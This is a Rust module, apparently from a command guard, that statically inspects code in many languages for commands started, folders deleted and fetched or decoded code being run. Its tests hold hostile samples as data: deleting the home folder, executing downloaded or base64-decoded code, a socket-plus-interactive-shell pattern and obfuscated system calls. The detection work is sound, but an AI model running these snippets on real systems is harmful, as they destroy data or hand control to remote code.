//! Code of other languages: calls, texts and the few expressions that make one text of several.
//!
//! One reader for all languages, since guards ask the same of each: which command lines a piece of code starts, which
//! folders it deletes, and whether it runs what it has just fetched. Names are read with their dots, texts with the
//! quotes of the language; variables that are given a text keep it. Everything else is skipped, and the work is bounded.

mod text;
mod values;

use std::collections::HashMap;

pub(super) use text::quoted;
use text::{bracketed, is_name_start, last_part, lisp, name_at, names_in, printed_before, span, without_texts};

use super::tables::functions::{
    DECODING, DELETING, FETCHING, GOING_THROUGH, HOMES, MOVING, PASSING, PRINTING, RUNNING, SAVING, SENDING, STARTING,
    WITH_BACKTICKS,
};

/// Calls that are looked at in one piece of code.
const MOST_CALLS: usize = 64;
/// Mark variables that hold a function: one that starts commands, or one that deletes.
const STARTER: &str = "\u{0}starts";
const DELETER: &str = "\u{0}deletes";
/// Arguments of one call, and how deep expressions are followed.
const MOST_ARGUMENTS: usize = 32;
const DEEPEST: usize = 12;
/// How deep code that is a text in other code is read.
const DEEPEST_CODE: usize = 3;

/// What a piece of code does.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Does {
    /// Commands that it starts: one text is a command line, several are words.
    pub(super) starts: Vec<Vec<String>>,
    /// Where code that it runs comes from: `fetched`, `decoded`, `socket`.
    pub(super) runs: Vec<&'static str>,
    /// Texts that it prints.
    pub(super) prints: Vec<String>,
    /// Where other things that it prints come from: `fetched`, `decoded`.
    pub(super) prints_from: Vec<&'static str>,
    /// Files that it writes, with their texts.
    pub(super) writes: Vec<(String, String)>,
}

/// Reads a piece of code; what variables hold already is given.
pub(super) fn read(language: &str, code: &str, variables: &[(String, String)]) -> Does {
    read_within(language, code, variables.iter().cloned().collect(), 0)
}

fn read_within(language: &str, code: &str, variables: HashMap<String, String>, depth: usize) -> Does {
    let code = if language == "emacs" { &lisp(code) } else { code };
    let mut reader = Reader {
        code,
        language,
        depth,
        variables,
        lists: HashMap::new(),
        sources: HashMap::new(),
        through: Vec::new(),
        opened: None,
        does: Does::default(),
        names: Vec::new(),
    };
    reader.read();
    reader.does
}

struct Reader<'c> {
    code: &'c str,
    language: &'c str,
    /// How many texts that are run as code surround this one.
    depth: usize,
    /// Texts that variables hold.
    variables: HashMap<String, String>,
    /// Words that variables hold.
    lists: HashMap<&'c str, Vec<String>>,
    /// Where the values of other variables come from.
    sources: HashMap<&'c str, &'static str>,
    /// Folders that the code goes through.
    through: Vec<String>,
    /// The file that was opened last.
    opened: Option<String>,
    does: Does,
    names: Vec<&'c str>,
}

impl<'c> Reader<'c> {
    fn read(&mut self) {
        let mut at = 0;
        let mut previous = "";
        while at < self.code.len() && self.does.starts.len() < MOST_CALLS {
            let rest = self.code.get(at..).unwrap_or_default();
            let Some(first) = rest.chars().next() else { break };
            if is_name_start(first) {
                let name = name_at(rest);
                let after = at + name.len();
                // The end of a quotation is no call, and the prefix of one is no name.
                if matches!(self.code.as_bytes().get(after), Some(b'"' | b'\'')) && name.len() <= 2 && name != "do" {
                    at = after;
                    self.skip_text(&mut at, previous);
                    continue;
                }
                // Whatever a name leads to, reading goes on behind it.
                at = self.named(name, at, after).max(after);
                previous = name;
            } else if first == '`' && WITH_BACKTICKS.contains(&self.language) {
                let mut end = at;
                if let Some(script) = quoted(self.code, &mut end) {
                    self.does.starts.push(vec![script]);
                }
                at = end.max(at + 1);
            } else if matches!(first, '"' | '\'' | '`') {
                self.skip_text(&mut at, previous);
            } else if rest.starts_with("%x") {
                at += 2;
                self.does.starts.extend(bracketed(self.code, &mut at).map(|script| vec![script]));
            } else if first == '[' {
                at = self.indexed(at + 1).unwrap_or(at + 1);
            } else {
                at += first.len_utf8();
            }
        }
        self.conclude();
    }

    /// A text that nobody asked for, unless it is one that perl or awk opens as a pipe.
    fn skip_text(&mut self, at: &mut usize, previous: &str) {
        let from = *at;
        let Some(text) = quoted(self.code, at) else {
            *at = from + 1;
            return;
        };
        *at = (*at).max(from + 1);
        let before = self.code.get(..from).unwrap_or_default().trim_end();
        let after = self.code.get(*at..).unwrap_or_default().trim_start();
        let read = after.strip_prefix('|').is_some_and(|rest| rest.trim_start().starts_with("getline"));
        let piped = before.ends_with('|') && !before.ends_with("||") || before.ends_with("|&");
        let of_awk = self.language == "awk" && (piped || read);
        let of_perl = matches!(self.language, "perl" | "ruby")
            && (text.ends_with('|') || text.starts_with('|'))
            && text.len() > 2
            && (previous == "open" || before.ends_with([',', '(']));
        if of_awk && matches!(text.rsplit('/').next(), Some("sh" | "bash" | "dash" | "zsh")) && piped {
            self.does.starts.extend(printed_before(before).map(|script| vec![script]));
        }
        if of_awk || of_perl {
            self.does.starts.push(vec![text.trim_matches('|').to_owned()]);
        }
        if self.language == "awk" && before.ends_with('>') {
            self.does.writes.extend(printed_before(before).map(|written| (text.clone(), written)));
        }
        if matches!(self.language, "groovy" | "scala") && (after.starts_with(".execute") || after.starts_with(".!")) {
            self.does.starts.push(vec![text]);
        }
    }

    /// `object['exec' + 'Sync'](…)` and `getattr(object, 'system')(…)`: a function by a text that names it. `at` is where the
    /// text begins; gives where reading goes on, if there is such a call.
    fn indexed(&mut self, mut at: usize) -> Option<usize> {
        let name = self.expression(&mut at, 0)?;
        self.blanks(&mut at);
        let rest = self.code.get(at..)?.strip_prefix([']', ')'])?;
        at += 1;
        let blank = rest.len() - rest.trim_start().len();
        if !rest.trim_start().starts_with('(') {
            return None;
        }
        at += blank;
        if STARTING.contains(&name.as_str()) {
            return self.start(&name, &mut at).then_some(at);
        }
        DELETING.contains(&name.as_str()).then(|| self.delete(at, at))
    }

    /// Something that begins with a name: an assignment, a call, or nothing of interest.
    fn named(&mut self, name: &'c str, from: usize, after: usize) -> usize {
        let last = last_part(name);
        self.names.push(last);
        let rest = self.code.get(after..).unwrap_or_default();
        let blank = rest.len() - rest.trim_start_matches([' ', '\t']).len();
        let next = rest.get(blank..).unwrap_or_default();
        if let Some(value) = next
            .strip_prefix('=')
            .or_else(|| next.strip_prefix(":="))
            .filter(|value| !value.starts_with(['=', '>', '~']))
        {
            let at = self.code.len() - value.len();
            self.assign(name, at);
            return at;
        }
        if let Some(value) = next.strip_prefix("+=").or_else(|| next.strip_prefix(".=")) {
            let mut at = self.code.len() - value.len();
            if let (Some(more), Some(held)) = (self.expression(&mut at, 0), self.variables.get_mut(name)) {
                held.push_str(&more);
            }
            return at;
        }
        if name == "qx" {
            let mut at = after;
            self.does.starts.extend(bracketed(self.code, &mut at).map(|script| vec![script]));
            return at.max(after);
        }
        if GOING_THROUGH.contains(&last) {
            let mut at = after;
            let folder = if last == "rglob" {
                self.receiver(from)
            } else {
                self.arguments(&mut at).into_iter().flatten().next()
            };
            self.through.extend(folder);
        }
        // `const {execSync: x} = …` and `import rmtree as r` give the function another name.
        let alias = next.strip_prefix(':').or_else(|| next.strip_prefix("as "));
        if let Some((alias, function)) = alias.zip(function_kind(last)) {
            self.variables.insert(name_at(alias.trim_start()).to_owned(), function.to_owned());
        }
        if last == "getattr" {
            let open = after + blank;
            let last_argument = span(self.code, open).rfind(',').map(|comma| open + comma + 1);
            return last_argument.and_then(|at| self.indexed(at)).unwrap_or(after);
        }
        if SENDING.contains(&last)
            && let Some((function, rest)) = next.trim_start_matches(['(', ' ', ':', '\'', '"']).split_once(',')
            && STARTING.contains(&function.trim_end_matches(['\'', '"']))
        {
            let mut at = self.code.len() - rest.len();
            self.start(function, &mut at);
            return at;
        }
        self.output(name, from, after);
        if RUNNING.contains(&last) || STARTING.contains(&last) || next.starts_with(':') && last == "eval" {
            self.runs_text(last, after);
        }
        if RUNNING.contains(&last) && self.runs_own_code(last, after) {
            return after;
        }
        if STARTING.contains(&last) {
            let mut at = after;
            // `Thread(target=os.system, args=('ls',))`, `map(os.system, ['ls'])`: the function is given, not called.
            if name != last && next.starts_with(',') {
                at += blank + 1;
            }
            return if self.start(last, &mut at) { at } else { after };
        }
        if MOVING.contains(&last) {
            return self.moved(after);
        }
        match self.variables.get(name).map(String::as_str) {
            Some(STARTER) => {
                let mut at = after;
                return if self.start(name, &mut at) { at } else { after };
            }
            Some(DELETER) => return self.delete(from, after),
            _ => {}
        }
        let is_deleter =
            DELETING.contains(&last) || name == "Deno.remove" || last == "sync" && self.code.contains("rimraf");
        if is_deleter && !self.is_method_of_text(from) {
            return self.delete(from, after);
        }
        if self.language == "tclsh" && name == "delete" {
            let folder = rest.split_ascii_whitespace().find(|word| !word.starts_with('-')).unwrap_or_default();
            self.does.starts.push(vec!["rm".to_owned(), "-rf".to_owned(), folder.to_owned()]);
        }
        after
    }

    /// Code of the same language in a text: `exec('…')`, `eval "…"`.
    fn runs_own_code(&mut self, name: &str, after: usize) -> bool {
        // Elsewhere than in Python, `exec` starts a command.
        if self.depth >= DEEPEST_CODE || name == "exec" && self.language != "python" {
            return false;
        }
        let mut at = after;
        let Some(Some(code)) = self.arguments(&mut at).into_iter().next() else { return false };
        let does = read_within(self.language, &code, self.variables.clone(), self.depth + 1);
        self.does.starts.extend(does.starts);
        self.does.runs.extend(does.runs);
        self.does.writes.extend(does.writes);
        true
    }

    /// A call that takes the first path away: `os.rename(a, b)`.
    fn moved(&mut self, after: usize) -> usize {
        let mut at = after;
        let paths: Vec<String> = self.arguments(&mut at).into_iter().map_while(|argument| argument).collect();
        if let [from, to] = paths.as_slice() {
            self.does.starts.push(vec!["mv".to_owned(), "--".to_owned(), from.clone(), to.clone()]);
            return at.max(after);
        }
        after
    }

    /// A call that deletes the folders that it is given, or the one that it is called on.
    fn delete(&mut self, from: usize, after: usize) -> usize {
        let mut at = after + usize::from(self.code.as_bytes().get(after) == Some(&b'!'));
        let folders: Vec<String> = self.arguments(&mut at).into_iter().map_while(|argument| argument).collect();
        let folders: Vec<String> = folders.into_iter().filter(|folder| !folder.is_empty()).collect();
        if !folders.is_empty() {
            let words = ["rm".to_owned(), "-rf".to_owned()].into_iter().chain(folders).collect();
            self.does.starts.push(words);
            return at.max(after);
        }
        // `Path.home().rmtree()`
        if let Some(folder) = self.receiver(from) {
            self.does.starts.push(vec!["rm".to_owned(), "-rf".to_owned(), folder]);
        }
        after
    }

    /// What a call prints, or puts into a file.
    fn output(&mut self, name: &str, from: usize, after: usize) {
        let last = last_part(name);
        let mut at = after;
        if matches!(last, "open" | "fopen" | "openSync") {
            // Perl names a handle first, and says in the path what it is for.
            at += self.code.get(after..).and_then(|rest| rest.find(['"', '\''])).unwrap_or_default();
            let path = quoted(self.code, &mut at).filter(|path| !path.contains('|') && !path.is_empty());
            self.opened = path.map(|path| path.trim_start_matches(['>', '+', '<', ' ']).to_owned());
            return;
        }
        let printing = PRINTING.contains(&last) || last == "write" && name.contains("stdout");
        if !printing && !SAVING.contains(&last) {
            return;
        }
        if self.language == "perl" && self.opened.is_some() {
            // `print HANDLE "text"`
            let rest = self.code.get(at..).unwrap_or_default();
            let handle = name_at(rest.trim_start().trim_start_matches(['{', '$']));
            at += rest.find(handle).unwrap_or_default() + handle.len();
        }
        let texts: Vec<String> = self.arguments(&mut at).into_iter().map_while(|argument| argument).collect();
        match (texts.as_slice(), &self.opened) {
            ([], _) => {
                let span = span(self.code, after);
                let bare = without_texts(span);
                let held = || names_in(&bare).find_map(|name| self.sources.get(name).copied());
                self.does.prints_from.extend(source_of(span).or_else(held).filter(|_| printing));
            }
            ([path, text, ..], _)
                if !printing && last != "write_text" && !(last == "write" && self.opened.is_some()) =>
            {
                self.does.writes.push((path.clone(), text.clone()));
            }
            ([text], _) if last == "write_text" => {
                self.does.writes.extend(self.receiver(from).map(|path| (path, text.clone())));
            }
            ([text, ..], Some(path)) if !printing || self.language == "perl" => {
                self.does.writes.push((path.clone(), text.clone()));
            }
            (texts, _) if printing => self.does.prints.push(format!("{}\n", texts.join(" "))),
            _ => {}
        }
    }

    /// `text.rm` is no call of a function that deletes: what stands before the dot is a text.
    fn is_method_of_text(&self, from: usize) -> bool {
        let before = self.code.get(..from).unwrap_or_default();
        before.ends_with("'.") || before.ends_with("\".")
    }

    /// The folder that a method is called on.
    fn receiver(&self, from: usize) -> Option<String> {
        let before = self.code.get(..from)?.strip_suffix('.')?;
        let start = before.rfind([';', '\n', '=', '{', '}', ' ', '[', ',']).map_or(0, |at| at + 1);
        let mut at = start + (before.len() - start - before.get(start..)?.trim_start().len());
        self.expression(&mut at, 0)
    }

    fn assign(&mut self, name: &'c str, from: usize) {
        let mut at = from;
        if let Some(value) = self.expression(&mut at, 0) {
            self.variables.insert(name.to_owned(), value);
            return;
        }
        let value = self.code.get(from..).unwrap_or_default();
        if value.trim_start().starts_with('[') {
            let words: Vec<String> = self.arguments(&mut at).into_iter().map_while(|argument| argument).collect();
            if !words.is_empty() {
                self.lists.insert(name, words);
            }
            return;
        }
        let value = value.get(..value.find([';', '\n']).unwrap_or(value.len())).unwrap_or_default();
        if let Some(source) = source_of(value) {
            self.sources.insert(name, source);
        } else if let Some(function) = function_kind(last_part(name_at(value.trim_start())))
            && !value.contains('(')
        {
            self.variables.insert(name.to_owned(), function.to_owned());
        }
    }

    /// Whether text that is run as code was fetched or decoded.
    fn runs_text(&mut self, name: &'c str, after: usize) {
        let span = span(self.code, after);
        let bare = without_texts(span);
        let from_variable = || names_in(&bare).find_map(|name| self.sources.get(name).copied());
        // What a command in backticks prints is code here.
        let loads = |text: &str| names_in(text).any(|name| matches!(name, "curl" | "wget"));
        let quoted_command =
            || (WITH_BACKTICKS.contains(&self.language) && span.contains('`') && loads(span)).then_some("fetched");
        let Some(source) = source_of(span).or_else(from_variable).or_else(quoted_command) else { return };
        // A program may be given what was fetched as data; only its own code counts.
        let is_code = RUNNING.contains(&name)
            || STARTING.contains(&name) && !span.trim_start().trim_start_matches('(').trim_start().starts_with('[');
        if is_code && !self.does.runs.contains(&source) {
            self.does.runs.push(source);
        }
    }

    /// Reads a call that starts a command.
    fn start(&mut self, name: &str, at: &mut usize) -> bool {
        let rest = self.code.get(*at..).unwrap_or_default();
        let opened = rest.trim_start();
        let inner = opened.trim_start_matches('(').trim_start();
        let held = self.lists.get(name_at(inner));
        let listed = held.is_some() || inner.strip_prefix("args=").unwrap_or(inner).starts_with('[');
        // `os.spawnlp(os.P_WAIT, 'ls', …)`: how to wait comes first.
        if let Some(mode) = inner.find("P_WAIT").or_else(|| inner.find("P_NOWAIT")).filter(|at| *at < 4) {
            let comma = inner.get(mode..).and_then(|rest| rest.find(',')).unwrap_or_default();
            *at += rest.len() - inner.len() + mode + comma + 1;
        }
        let words: Vec<String> = match held {
            Some(words) => words.clone(),
            None => self.arguments(at).into_iter().map_while(|argument| argument).collect(),
        };
        match words.split_first() {
            None => return false,
            Some((line, more)) => {
                let named = ["execFile", "spawn", "execl", "execa", "system2", "pcntl_exec", "sh"];
                let as_words = listed || named.iter().any(|start| name.starts_with(start));
                // These are given the program twice: the second is its own idea of its name.
                let is_exec = name.starts_with("execl") || name.starts_with("spawnl");
                let is_line = more.is_empty() || !as_words && line.contains(char::is_whitespace);
                let words = if is_line {
                    vec![line.clone()]
                } else if is_exec || name.starts_with("execv") && !listed && words.len() > 2 {
                    std::iter::once(line.clone()).chain(words.get(2..).unwrap_or_default().iter().cloned()).collect()
                } else {
                    words
                };
                self.does.starts.push(words);
            }
        }
        true
    }

    /// What only the whole of the code tells.
    fn conclude(&mut self) {
        let has = |names: &[&str]| self.names.iter().any(|name| names.contains(name));
        // `array_map('unlink', glob('…'))`
        let named = || ["'unlink'", "\"unlink\""].iter().any(|name| self.code.contains(name));
        if has(&["unlink", "remove", "rmdir", "unlinkSync", "rmSync", "delete"]) || named() {
            for folder in std::mem::take(&mut self.through) {
                self.does.starts.push(vec!["rm".to_owned(), "-rf".to_owned(), folder]);
            }
        }
        let given = |function: &str| {
            ["then(", "pipe(", "map("].iter().any(|call| self.code.contains(&format!("{call}{function}")))
        };
        // `fetch(u).then(t => eval(t))`: what arrives later is run when it arrives.
        let called = || self.code.contains("=>") && self.code.contains("eval(");
        if given("console.log")
            && let Some(source) = source_of(self.code)
        {
            self.does.prints_from.push(source);
        }
        if (given("eval") || given("exec") || called())
            && let Some(source) = source_of(self.code)
        {
            self.does.runs.push(source);
        }
        let connects = has(&[
            "connect",
            "create_connection",
            "TCPSocket",
            "fsockopen",
            "createConnection",
            "tcp",
            "Socket",
            "socket",
        ]);
        let is_shell = |words: &Vec<String>| {
            let program = words.first().map_or("", String::as_str).split_ascii_whitespace().next().unwrap_or_default();
            matches!(program.rsplit('/').next(), Some("sh" | "bash" | "dash" | "zsh" | "cmd.exe" | "powershell"))
                && !words.iter().any(|word| word.starts_with("-c"))
        };
        if connects && self.does.starts.iter().any(is_shell) {
            self.does.runs.push("socket");
        }
    }
}

/// What a variable holds that is given this function.
fn function_kind(function: &str) -> Option<&'static str> {
    let starts = STARTING.contains(&function).then_some(STARTER);
    starts.or_else(|| DELETING.contains(&function).then_some(DELETER))
}

fn source_of(text: &str) -> Option<&'static str> {
    let mut fetched = None;
    let bare = without_texts(text);
    for name in names_in(&bare) {
        if DECODING.contains(&name) {
            return Some("decoded");
        }
        if FETCHING.contains(&name) && (text.contains("://") || !matches!(name, "get" | "request" | "http" | "https")) {
            fetched = Some("fetched");
        }
    }
    fetched
}

/// Whether the home folder is named here: by a function, or by the variable of the environment.
fn is_home(rest: &str) -> bool {
    let bare = rest.trim_start_matches('$');
    let name = name_at(bare);
    if HOMES.contains(&name)
        || last_part(name) == "homedir"
        || bare.starts_with("require('os').userInfo().homedir")
        || bare.starts_with("require(\"os\").userInfo().homedir")
        || last_part(name) == "home" && bare.get(name.len()..).is_some_and(|rest| rest.starts_with("()"))
    {
        return true;
    }
    if name == "require" {
        return bare.split_once(").").is_some_and(|(before, after)| before.len() < 24 && after.starts_with("homedir"));
    }
    let asks = matches!(
        last_part(name),
        "environ" | "getenv" | "get" | "ENV" | "env" | "fetch" | "GetEnvironmentVariable" | "ENVIRON" | "_SERVER"
    );
    let behind = bare.get(name.len()..).unwrap_or_default().trim_start_matches(['(', '[', '{', '.', '\'', '"', ' ']);
    asks && behind.starts_with("HOME")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn starts(language: &str, code: &str) -> Vec<String> {
        read(language, code, &[]).starts.iter().map(|words| words.join("|")).collect()
    }

    #[test]
    fn letters_of_other_scripts_are_passed_over() {
        assert_eq!(read("python", "é = 1; ü", &[]), Does::default());
        assert_eq!(read("python", "é; os.system('ls')", &[]).starts, [["ls"]]);
    }

    #[test]
    fn commands_are_read_from_calls_in_every_language() {
        for (language, code, expected) in [
            ("python", "import os; os.system('ls a')", "ls a"),
            ("python", "subprocess.run(['ls', '-l', x])", "ls|-l"),
            ("python", "getattr(os, 'sys' + 'tem')('ls')", "ls"),
            ("python", "c = 'ls'; c += ' a'; os.system(c)", "ls a"),
            ("python", "os.system('ls {}'.format('a'))", "ls a"),
            ("python", "os.system('ls %s' % 'a')", "ls a"),
            ("python", "os.system(' '.join(['ls', 'a']))", "ls a"),
            ("python", "d = 'a'; os.system(f'ls {d}{chr(47)}')", "ls a/"),
            ("python", "from os import system as s; s('ls')", "ls"),
            ("node", "require('child_process')['exec' + 'Sync']('ls a')", "ls a"),
            ("deno", "new Deno.Command('ls', {args: ['-l', 'a']}).outputSync()", "ls|-l|a"),
            ("ruby", "Kernel.send(:system, 'ls a')", "ls a"),
            ("groovy", "'ls a'.execute()", "ls a"),
            ("emacs", "(shell-command \"ls -l\")", "ls -l"),
            ("python", "c = 'ls' + ' a'\nos.system(c)", "ls a"),
            ("perl", "system q(ls a)", "ls a"),
            ("perl", "exec qw(ls a)", "ls|a"),
            ("perl", "open P, \"ls a|\"", "ls a"),
            ("perl", "`ls a`", "ls a"),
            ("ruby", "%x(ls a)", "ls a"),
            ("node", "require('child_process').execSync(\"ls a\", {stdio: 0})", "ls a"),
            ("node", "const {execSync: x} = require('child_process'); x('ls a')", "ls a"),
            ("node", "spawn('ls', ['-l'])", "ls|-l"),
            ("awk", "BEGIN { c = \"ls a\"; system(c) }", "ls a"),
            ("awk", "BEGIN { print \"ls a\" | \"sh\" }", "ls a\nsh"),
            ("awk", "{ print | \"sort\" }", "sort"),
            ("lua", "os.execute('ls' .. ' a')", "ls a"),
        ] {
            assert_eq!(starts(language, code).join("\n"), expected, "{code}");
        }
    }

    #[test]
    fn folders_that_are_deleted_are_worked_out() {
        for (language, code, folder) in [
            ("python", "shutil.rmtree(Path.home())", "~"),
            ("python", "shutil.rmtree(os.environ['HOME'], ignore_errors=True)", "~"),
            ("python", "shutil.rmtree(os.path.join(os.path.expanduser('~'), 'a'))", "~/a"),
            ("python", "shutil.rmtree(Path.home() / 'a')", "~/a"),
            ("python", "for d, _, fs in os.walk(os.environ['HOME']): os.unlink(f)", "~"),
            ("node", "fs.rmSync(os.homedir(), {recursive: true})", "~"),
            ("node", "rmSync(process.env.HOME, {recursive: true})", "~"),
            ("node", "await fs.rm('/a', {recursive: true})", "/a"),
            ("ruby", "FileUtils.rm_rf(Dir.home)", "~"),
            ("ruby", "FileUtils.rm_rf('a')", "a"),
            ("perl", "unlink glob q(~/*)", "~/*"),
            ("tclsh", "file delete -force /a", "/a"),
            ("python", "from shutil import rmtree as r; r('/a')", "/a"),
            ("elixir", "File.rm_rf!('/a')", "/a"),
            ("deno", "Deno.removeSync('/a', {recursive: true})", "/a"),
            ("emacs", "(delete-directory \"~\" t)", "~"),
        ] {
            assert_eq!(starts(language, code), [format!("rm|-rf|{folder}")], "{code}");
        }
        for code in
            ["s.replace('/', '_')", "print('rm -rf /')", "x = 'rmtree'", "shutil.rmtree(folder)", "d.remove('/')"]
        {
            assert!(starts("python", code).is_empty(), "{code}");
        }
    }

    #[test]
    fn texts_that_are_printed_or_saved_are_told() {
        for (language, code, text) in [
            ("python", "print('ls a')", "ls a"),
            ("python", "import sys; sys.stdout.write('ls a')", "ls a"),
            ("node", "console.log('ls a')", "ls a"),
            ("perl", "print \"ls a\"", "ls a"),
            ("ruby", "puts 'ls a'", "ls a"),
            ("php", "echo 'ls a';", "ls a"),
        ] {
            assert_eq!(read(language, code, &[]).prints, [format!("{text}\n")], "{code}");
        }
        for (language, code) in [
            ("python", "open('f', 'w').write('ls a')"),
            ("python", "with open('f', 'w') as o: o.write('ls a')"),
            ("python", "Path('f').write_text('ls a')"),
            ("node", "require('fs').writeFileSync('f', 'ls a')"),
            ("ruby", "File.write('f', 'ls a')"),
            ("perl", "open F, '>f'; print F 'ls a'; close F"),
            ("php", "file_put_contents('f', 'ls a');"),
            ("awk", "BEGIN { print \"ls a\" > \"f\" }"),
        ] {
            assert_eq!(read(language, code, &[]).writes, [("f".to_owned(), "ls a".to_owned())], "{code}");
        }
    }

    #[test]
    fn code_that_was_fetched_or_decoded_is_told() {
        let runs = |code: &str| read("python", code, &[]).runs;
        assert_eq!(runs("exec(urlopen('http://x').read())"), ["fetched"]);
        assert_eq!(runs("t = requests.get(u).text\nexec(t)"), ["fetched"]);
        assert_eq!(runs("subprocess.run(requests.get(u).text, shell=True)"), ["fetched"]);
        assert_eq!(runs("exec(base64.b64decode(x))"), ["decoded"]);
        assert_eq!(runs("fetch(u).then(r => r.text()).then(eval)"), ["fetched"]);
        assert_eq!(runs("s.connect(('h', 1)); subprocess.call(['/bin/sh', '-i'])"), ["socket"]);
        for code in
            ["print(requests.get(u).text)", "subprocess.run(['curl', '-o', 'f', 'http://x'])", "exec('print(1)')"]
        {
            assert!(runs(code).is_empty(), "{code}");
        }
    }
}
